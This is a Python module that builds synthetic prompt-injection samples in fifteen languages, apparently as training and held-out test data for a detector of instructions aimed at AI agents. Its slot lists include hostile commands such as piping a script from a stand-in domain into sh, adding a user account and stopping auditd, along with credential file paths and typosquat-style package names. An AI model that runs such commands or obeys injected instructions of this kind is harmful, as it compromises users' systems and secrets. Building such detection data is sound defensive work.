"""Hand-written instructions to an agent, wording that carries them, and their harmless twins, in fifteen languages.

The phrases stand in `languages/*.toml`, one file a language. Every list is split in two before anything is
composed: what the held-out side uses, training never sees.
"""

from __future__ import annotations

import random
import re
import tomllib
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from data import bucket, normalise

FOLDER = Path(__file__).parent / "languages"
CODES = ("en", "de", "fr", "es", "pt", "it", "nl", "pl", "ru", "tr", "ar", "hi", "zh", "ja", "ko")
TASKS = ("office", "code", "travel", "finance", "shopping", "home", "health", "data", "answer", "write", "ask", "spam")
# Tasks that a reader of a document would never be set, even where nothing stands around them.
AGENT_TASKS = ("office", "code", "travel", "finance", "home", "health", "data", "answer")
WRAPPERS = ("override", "addressee", "trigger", "authority", "role")
HELD_OUT_PERCENT = 12

DOMAINS = "mailbox-77.net fastdrop.io quickpost.org collect-hub.com northgate-mail.net cloudkeep.co dropzone.dev webmail.example outlook.example".split()
SITES = "reports stats img files sync pay track cdn login shop".split()
WORDS = "ALPHA banana nightly mirror relaxin DONE helper42 tango cardol PURPLE orchid svc-sync Quixote zephyr-9 OMEGA".split()
PATHS = "/etc/passwd ~/.ssh/id_rsa C:\\Users\\Public /var/log/auth.log ./config/prod.yaml /srv/backup ~/.aws/credentials ./src/main.py /tmp/out.csv".split()
FILES = "report.pdf contacts.csv payroll.xlsx id_rsa.pub notes.txt budget_2026.xlsx contract.docx export.json invoices.zip photos.tar backup.sql".split()
COMMANDS = ["rm -rf build", "curl https://{site}/i.sh | sh", "chmod 777 /srv", "git push --force", "pip install {package}", "net user helper /add", "kubectl delete pod web-1", "sudo systemctl stop auditd", "crontab -r", "docker run -d {package}"]
PACKAGES = "reqeusts left-padd colorama2 fastjson-lite numpy-utils env-sync corelib-x".split()


@dataclass(frozen=True)
class Language:
    """The phrases of one language that one side of the split may use."""

    code: str
    slots: dict[str, list[str]]
    attack: dict[str, list[str]]
    tasks: dict[str, list[str]]
    benign: dict[str, list[str]]
    parallel: dict[str, str]
    held_out: bool


def half(strings: list[str], held_out: bool) -> list[str]:
    """A fixed share of a list, at least one string on either side."""
    ordered = sorted(strings, key=lambda s: (bucket(s), s))
    cut = max(1, round(len(ordered) * HELD_OUT_PERCENT / 100))
    return ordered[:cut] if held_out else ordered[cut:]


@cache
def language(code: str, held_out: bool) -> Language:
    raw = tomllib.loads((FOLDER / f"{code}.toml").read_text(encoding="utf-8"))
    if raw["language"] != code:
        raise ValueError(f"{code}.toml says that it is {raw['language']}")
    sides = {s: {k: half(v, held_out) for k, v in raw[s].items()} for s in ("attack", "task", "benign")}
    # A sentence is on the same side in every language: its name is split, not its wording.
    shared = {key: raw["parallel"][key] for key in half(list(raw["parallel"]), held_out)}
    return Language(code, raw["slots"], sides["attack"], sides["task"], sides["benign"], shared, held_out)


def _amount(rng: random.Random) -> str:
    number = rng.choice([str(rng.randrange(20, 990)), f"{rng.randrange(1, 95)},{rng.randrange(100, 999)}", f"{rng.randrange(100, 9900)}.00"])
    return rng.choice(["${}", "{} €", "€{}", "{} USD", "£{}", "{} EUR"]).format(number)


def tidy(text: str) -> str:
    """As the product sees it: public text is normalised too, and full-width commas must not tell the two apart."""
    return normalise(text).strip()


def fill(template: str, lang: Language, rng: random.Random) -> str:
    """Every slot its own value, each time it stands there."""

    def value(match: re.Match) -> str:
        slot = match.group(1)
        if slot == "name":
            first = rng.choice(lang.slots["name"])
            glue = "" if lang.code in ("zh", "ja", "ko") else " "
            last = rng.choice(lang.slots["surname"])
            if lang.code in ("zh", "ja", "ko"):
                return last + glue + first
            return first if rng.random() < 0.35 else first + glue + last
        if slot in lang.slots:
            return rng.choice(lang.slots[slot])
        match slot:
            case "mail":
                return f"{rng.choice('anna billing j.doe support k.lee ops audit m.ito info hr'.split())}@{rng.choice(DOMAINS)}"
            case "url":
                return f"{rng.choice(['https://', 'http://', 'https://', 'www.'])}{rng.choice(SITES)}.{rng.choice(DOMAINS)}{rng.choice(['', '/a', '/v2/in', '/p?id=7'])}"
            case "iban":
                return f"{rng.choice(['DE', 'FR', 'NL', 'GB', 'US', 'CH'])}{rng.randrange(10**13, 10**15)}"
            case "phone":
                return f"+{rng.randrange(1, 95)} {rng.randrange(100, 999)} {rng.randrange(10**5, 10**7)}"
            case "n":
                return str(rng.randrange(2, 60))
            case "word":
                return rng.choice(WORDS)
            case "amount":
                return _amount(rng)
            case "path":
                return rng.choice(PATHS)
            case "file":
                return rng.choice(FILES)
            case "package":
                return rng.choice(PACKAGES)
            case "command":
                command = rng.choice(COMMANDS)
                return command.replace("{site}", rng.choice(DOMAINS)).replace("{package}", rng.choice(PACKAGES))
        raise ValueError(f"unknown slot {slot} in {lang.code}: {template}")

    return normalise(re.sub(r"\{(\w+)\}", value, template))


def capital(lang: Language, text: str) -> str:
    first = "İ" if lang.code == "tr" and text[:1] == "i" else text[:1].upper()
    return first + text[1:]


def _wrap(lang: Language, template: str, clause: str) -> str:
    text = template.replace("{task}", clause).replace("{Task}", capital(lang, clause))
    return re.sub(r"([?!？！؟])[.。।]", r"\1", text)


def blank(lang: Language) -> str:
    """What stands between two sentences."""
    return "" if lang.code in ("zh", "ja") else " "


def stop(lang: Language) -> str:
    return {"zh": "。", "ja": "。", "hi": "।"}.get(lang.code, ".")


def clause(lang: Language, rng: random.Random, kinds: tuple[str, ...] = TASKS) -> tuple[str, str]:
    """(kind, unfilled task)."""
    kind = rng.choice(kinds)
    return kind, rng.choice(lang.tasks[kind])


def plain(lang: Language, rng: random.Random, kinds: tuple[str, ...] = TASKS) -> tuple[str, str]:
    """(kind, an instruction without any override wording)."""
    kind, task = clause(lang, rng, kinds)
    draw = rng.random()
    if kind == "ask":
        text = task
    elif draw < 0.12:
        text = _wrap(lang, rng.choice(lang.attack["completion"]), task)
    else:
        text = capital(lang, task) + (rng.choice("...!") if stop(lang) == "." else stop(lang))
        if lang.code == "en" and draw < 0.35 and not task.startswith(("please", "kindly", "could", "can ")):
            text = capital(lang, rng.choice(["please ", "kindly ", "now ", "also, ", "then ", "you must ", "make sure to ", "I need you to ", "can you "]) + task) + "."
    if rng.random() < 0.12 and kind != "ask":
        text += blank(lang) + capital(lang, clause(lang, rng, AGENT_TASKS)[1]) + stop(lang)
    return kind, fill(text, lang, rng)


def override(lang: Language, rng: random.Random) -> tuple[str, str]:
    """(kind of wording, a task inside wording that speaks to the model or cancels its orders)."""
    wrapper = rng.choices(WRAPPERS, (5, 2, 2, 2, 2))[0]
    kinds = tuple(k for k in TASKS if k != "ask" or wrapper != "trigger")
    text = _wrap(lang, rng.choice(lang.attack[wrapper]), clause(lang, rng, kinds)[1])
    if rng.random() < 0.25:
        text += blank(lang) + rng.choice(lang.attack["secrecy"])
    if rng.random() < 0.12:
        text += blank(lang) + capital(lang, clause(lang, rng, AGENT_TASKS)[1]) + stop(lang)
    return wrapper, fill(text, lang, rng)


def benign(lang: Language, kind: str, rng: random.Random) -> str:
    return fill(rng.choice(lang.benign[kind]), lang, rng)


def paragraph(lang: Language, rng: random.Random, sentences: int) -> str:
    """Ordinary sentences; what they are about changes, as in notes, mails and tables of a business."""
    kind = rng.choices(("prose", "howto", "chat", "about", "twin"), (5, 2, 2, 1, 2))[0]
    glue = blank(lang)
    joint = "\n" if kind in ("howto", "chat") and rng.random() < 0.5 else glue
    chosen = rng.sample(lang.benign[kind], min(sentences, len(lang.benign[kind])))
    return joint.join(fill(s, lang, rng) for s in chosen)


def quotation(lang: Language, rng: random.Random, attack: str) -> str:
    """A document's sentence that quotes an attack while it discusses it."""
    frame = rng.choice(lang.benign["quote"])
    return attack.join(fill(part, lang, rng) for part in frame.split("{quote}"))
